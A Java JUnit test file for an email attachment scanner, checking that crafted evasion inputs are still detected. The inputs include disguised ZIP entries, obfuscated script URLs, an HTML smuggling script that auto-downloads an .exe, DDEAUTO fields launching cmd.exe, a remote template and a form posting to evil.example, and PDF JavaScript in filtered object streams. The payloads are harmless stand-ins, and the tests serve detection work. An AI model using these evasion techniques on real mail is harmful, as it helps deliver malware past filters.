package org.streamail.detect.content.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.streamail.detect.content.internal.ExecutableDetectionTest.only;
import static org.streamail.detect.content.internal.Samples.*;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.streamail.api.model.Finding;

/** Inputs crafted to carry what a rule claims to catch past it (each one slipped through before its fix). */
class EvasionTest {
    private static final String DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    private static final String SMUGGLER = "<script>var b=new Blob([atob('TVqQ')]);var u=URL.createObjectURL(b);"
            + "var a=document.createElement('a');a.download='x.exe';a.href=u;a.click();</script>";

    static byte[] cat(byte[]... parts) {
        ByteArrayOutputStream o = new ByteArrayOutputStream();
        for (byte[] b : parts) {
            o.writeBytes(b);
        }
        return o.toByteArray();
    }

    private static List<Finding> html(String h) {
        return scan(message("", h));
    }

    // ---- ZIP ----

    @Test
    void aZipBehindJunkIsStillWalked() {
        byte[] data = cat(utf8("junk junk junk\n"), new byte[100], zip("x.exe", pe()));
        assertThat(only(scanAttachment("a.zip", "application/zip", data), "executable").part())
                .isEqualTo("a.zip!/x.exe");
    }

    @Test
    void bothHalvesOfConcatenatedZipsAreWalked() {
        byte[] data = cat(zip("readme.txt", utf8("hello")), zip("x.exe", pe()));
        assertThat(only(scanAttachment("a.zip", "application/zip", data), "executable").part())
                .isEqualTo("a.zip!/x.exe");
        byte[] reversed = cat(zip("x.exe", pe()), zip("readme.txt", utf8("hello")));
        assertThat(rules(scanAttachment("b.zip", "application/zip", reversed))).contains("executable");
    }

    @Test
    void aZipNestedBehindJunkInAZipIsWalked() {
        byte[] inner = cat(new byte[] {1, 2, 3, 0, 0}, zip("x.exe", pe()));
        assertThat(rules(scanAttachment("a.zip", "application/zip", zip("inner.zip", inner)))).contains("executable");
    }

    @Test
    void theLocalHeaderNameIsJudgedWhenItDiffersFromTheCentralDirectory() {
        byte[] z = zip("readme.txt", utf8("WScript.CreateObject(\"WScript.Shell\").Run(\"calc\")"));
        System.arraycopy(utf8("vbs"), 0, z, 30 + 7, 3); // local header only: readme.vbs
        assertThat(only(scanAttachment("a.zip", "application/zip", z), "executable").part())
                .isEqualTo("a.zip!/readme.vbs");
    }

    // ---- HTML ----

    @Test
    void scriptUrlsWithTabsAndNewlinesAreScriptUrls() {
        assertThat(rules(html("<a href=\"java&#x09;script:alert(1)\">x</a>"))).contains("html-script");
        assertThat(rules(html("<a href=\"java\nscript:alert(1)\">x</a>"))).contains("html-script");
        assertThat(rules(html("<a href=\"\u0001 vb&#13;script:msgbox(1)\">x</a>"))).contains("html-script");
        assertThat(rules(html("<a href=\"da&#9;ta:text/html;base64,PHNjcmlwdD4=\">x</a>"))).contains("html-data-uri");
        assertThat(rules(html("<form action=\"ht&#x0A;tps://evil.example/p\"><input></form>")))
                .contains("html-form-external");
    }

    @Test
    void anHtmlAttachmentIsJudgedWhateverItsFirstBytes() {
        byte[] nul = cat(utf8("<!--"), new byte[] {0}, utf8("--><html><body>" + SMUGGLER));
        byte[] controls = cat(utf8("<!--"), new byte[300], utf8("--><html><body>" + SMUGGLER));
        byte[] utf16 = cat(new byte[] {(byte) 0xFF, (byte) 0xFE},
                ("<html><body>" + SMUGGLER).getBytes(StandardCharsets.UTF_16LE));
        byte[] gif = utf8("GIF89a<html><body>" + SMUGGLER);
        for (byte[] b : List.of(nul, controls, utf16, gif)) {
            assertThat(rules(scanAttachment("invoice.html", "text/html", b))).contains("html-script", "html-smuggling");
            assertThat(rules(scanAttachment("a.zip", "application/zip", zip("invoice.htm", b))))
                    .contains("html-script", "html-smuggling");
        }
    }

    // ---- Office ----

    @Test
    void aDdeFieldAfterAHarmlessFieldInRtf() {
        String rtf = "{\\rtf1{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}}" + "{\\par filler}".repeat(100)
                + "{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}{\\fldrslt x}}}";
        assertThat(rules(scanAttachment("a.rtf", "application/rtf", utf8(rtf)))).contains("dde");
    }

    @Test
    void externalTemplateRelationshipsWithEscapesOrAngleBracketsInValues() {
        String rels = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/"
                + "relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm?a>b\" TargetMode=\"External\"/>"
                + "</Relationships>";
        assertThat(rules(scanAttachment("a.docx", DOCX, docx(paragraph("hi"), "word/_rels/settings.xml.rels", rels))))
                .contains("remote-template");
        String escaped = rels.replace("?a>b", "").replace("TargetMode=\"External\"", "TargetMode=\"&#69;xternal\"")
                .replace("attachedTemplate", "attached&#x54;emplate");
        assertThat(rules(scanAttachment("a.docx", DOCX, docx(paragraph("hi"), "word/_rels/settings.xml.rels",
                escaped)))).contains("remote-template");
    }

    @Test
    void ddeFieldsUnderAnotherNamespacePrefixOrInSingleQuotes() {
        String field = "<x:p><x:r><x:fldChar x:fldCharType=\"begin\"/></x:r><x:r><x:instrText xml:space=\"preserve\">"
                + " DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\" </x:instrText></x:r></x:p>";
        String doc = "<?xml version=\"1.0\"?><x:document xmlns:x=\"http://schemas.openxmlformats.org/wordprocessingml/"
                + "2006/main\"><x:body>" + field + "</x:body></x:document>";
        assertThat(rules(scanAttachment("a.docx", DOCX, zip(entries("[Content_Types].xml", CONTENT_TYPES,
                "word/document.xml", doc))))).contains("dde");
        assertThat(rules(scanAttachment("a.docx", DOCX,
                docx("<w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/>"))))
                .contains("dde");
    }

    @Test
    void compoundFileNamesCompareIgnoringCase() {
        byte[] doc = new CfbWriter().stream("WordDocument", new byte[64]).storage("MACROS").storage("vba")
                .stream("_vba_project", new byte[8]).build();
        assertThat(rules(scanAttachment("a.doc", "application/msword", doc))).contains("office-macro");
    }

    // ---- PDF ----

    private static String objStm(String filter, byte[] data, String extra) {
        return "<< /Type /ObjStm /N 1 /First 4 " + extra + " " + filter + " /Length " + data.length + " >>\nstream\n"
                + new String(data, StandardCharsets.ISO_8859_1) + "\nendstream";
    }

    @Test
    void javaScriptInObjectStreamsWithPaddedDictionariesOrOtherFilters() {
        byte[] inner = utf8("6 0 << /S /JavaScript /JS (app.alert(1)) >>");
        String pad = "/Pad [" + "0 ".repeat(1200) + "]";
        String hex = HexFormat.of().formatHex(inner) + ">";
        for (String obj : List.of(objStm("/Filter /FlateDecode", deflate(inner), pad),
                objStm("/Filter /ASCIIHexDecode", utf8(hex), ""),
                objStm("/Filter [/AHx /Fl]", utf8(HexFormat.of().formatHex(deflate(inner)) + ">"), ""),
                objStm("/Filter 9 0 R", deflate(inner), ""))) {
            assertThat(rules(scanAttachment("a.pdf", "application/pdf", pdf("", obj)))).as(obj.substring(0, 60))
                    .contains("pdf-javascript");
        }
    }

    // ---- robustness ----

    @Test
    void manyOpenActionReferencesToMissingObjectsDoNotMakeTheScanQuadratic() {
        // Each reference used to be looked up by reading the whole file: 58,000 of them in 1 MB took 90 s.
        byte[] pdf = utf8("%PDF-1.4\n" + "/OpenAction 1 0 R ".repeat(58_000));
        long t0 = System.nanoTime();
        List<Finding> f = scanAttachment("a.pdf", "application/pdf", pdf);
        assertThat((System.nanoTime() - t0) / 1_000_000).isLessThan(2_000);
        assertThat(rules(f)).contains("pdf-open-action");
    }
}
